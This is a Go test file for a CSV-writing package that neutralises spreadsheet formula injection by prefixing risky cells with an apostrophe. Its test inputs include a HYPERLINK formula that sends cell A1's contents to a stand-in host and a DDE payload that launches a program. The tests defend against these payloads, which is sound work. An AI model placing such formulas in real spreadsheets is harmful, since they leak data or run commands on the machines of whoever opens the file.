package csvcell

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestCellNeutralisesFormulasAndUncellUndoesIt(t *testing.T) {
	tests := []struct {
		name, in, written string
	}{
		{"plain text", "Child seen at school", "Child seen at school"},
		{"formula", `=HYPERLINK("http://x.example/?"&A1,"open")`, `'=HYPERLINK("http://x.example/?"&A1,"open")`},
		{"plus", "+44 20 7946 0000", "'+44 20 7946 0000"},
		{"negative number", "-3", "'-3"},
		{"at", "@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"tab", "\t=1+1", "'\t=1+1"},
		{"carriage return", "\r=1", "'\r=1"},
		{"an apostrophe before text stays", "'til tomorrow", "'til tomorrow"},
		{"an apostrophe before a formula gains one", "'=1+1", "''=1+1"},
		{"empty", "", ""},
		{"only apostrophes", "''", "''"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Cell(tt.in); got != tt.written {
				t.Fatalf("Cell(%q) = %q, want %q", tt.in, got, tt.written)
			}
			if back := Uncell(Cell(tt.in)); back != tt.in {
				t.Fatalf("Uncell(Cell(%q)) = %q", tt.in, back)
			}
		})
	}
}

func TestWriterWritesEveryCellSafely(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf)
	if err := w.Write([]string{"ok", "=cmd|' /C calc'!A0", "-2"}); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	rec, err := csv.NewReader(&buf).Read()
	if err != nil {
		t.Fatal(err)
	}
	for i, want := range []string{"ok", "'=cmd|' /C calc'!A0", "'-2"} {
		if rec[i] != want {
			t.Errorf("cell %d: %q, want %q", i, rec[i], want)
		}
	}
}
